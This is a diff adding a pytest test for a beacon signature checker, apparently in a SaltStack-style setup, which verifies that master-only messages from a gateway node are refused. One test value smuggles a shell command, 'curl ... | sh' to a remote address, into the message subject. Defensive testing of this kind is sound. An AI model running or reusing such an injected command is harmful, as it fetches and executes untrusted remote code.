@@ -63,6 +63,16 @@ def test_the_master_signs_for_itself():
     assert (event.site, event.node, why) == ("winterthur", "", "")
 
 
+@pytest.mark.parametrize("beacon", authentic.MASTER_BEACONS)
+def test_what_only_the_master_may_say_is_refused_from_a_node(beacon):
+    """With its own, right signature a gateway reported `apart`, with a command as the subject."""
+    lie = signed(beacon=beacon, condition="apart", subject="winterthur; curl -s http://203.0.113.9/x | sh #")
+    assert authentic.check(lie, f"salt/beacon/gw1.winterthur/{beacon}/apart", SECRET) == (None, "the master's")
+    assert authentic.check(lie, None, SECRET) == (None, "the master's")
+    other = authentic.sign(lie | {"id": "master"}, authentic.key_of(SECRET, "gw1.winterthur"))
+    assert authentic.check(other, None, SECRET) == (None, "signature")
+
+
 def test_each_node_has_a_key_of_its_own():
     assert authentic.key_of(SECRET, "gw1.winterthur") != authentic.key_of(SECRET, "gw2.winterthur")
     other = authentic.sign(plain(), authentic.key_of(SECRET, "gw2.winterthur"))
